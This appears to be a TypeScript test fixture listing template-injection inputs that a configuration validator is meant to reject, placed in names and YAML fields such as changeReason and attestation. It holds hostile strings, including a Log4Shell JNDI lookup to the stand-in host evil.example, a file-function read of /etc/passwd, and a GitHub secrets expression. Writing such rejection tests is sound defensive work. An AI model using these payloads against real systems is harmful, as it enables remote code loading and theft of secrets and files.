import { BARE, declarations, type HostileInput, names, SYSTEM, TENANT } from "../input.ts";

const TEMPLATES = [
  ["a template", "${path.root}"],
  ["a function", '${file("/etc/passwd")}'],
  ["an environment", "${env.HOME}"],
  ["a directive", "%{ if true }x%{ endif }"],
  ["an escaped template", "$${path.root}"],
  ["a template behind a sign", "$$${path.root}"],
  ["an open template", "${"],
  ["Log4Shell", "${jndi:ldap://evil.example/x}"],
  ["a template of GitHub's pipelines", "${{ secrets.TOKEN }}"],
  ["a token of the synthesis", "TfToken[TOKEN.0]"],
  ["a token in a template", "${TfToken[TOKEN.0]}"],
] as const;

/** What would be a template further on: refused where it is written. */
export const templateInputs: readonly HostileInput[] = [
  ...names(
    "templates",
    TEMPLATES.map(([name, words]) => [name, JSON.stringify(words)] as const),
  ),
  { name: "templates: in a bureau's name", files: { [SYSTEM]: BARE, [TENANT]: 'name: "${path.root}"\n' } },
  ...declarations("templates", [
    ["in a reason", `${BARE}changeReason: "a \${x}"\n`],
    ["in an attestation", `${BARE.replace("production", "exiting")}retirement: { on: 2026-03-31, attestation: "\${x}" }\n`],
    ["in the attestation of a removal", `${BARE}removals: [{ of: db, on: 2026-02-10, attestation: "%{ for }" }]\n`],
    ["in an exemption", `${BARE}sizing: { exempt: "\${x}", until: 2026-03-31 }\n`],
    ["in what is accepted", `${BARE}accepts: [{ damage: reboot, of: s, until: 2026-03-31, reason: "\${x}" }]\n`],
    ["behind an escape", `${BARE}changeReason: "\\x24{x}"\n`],
  ]),
];
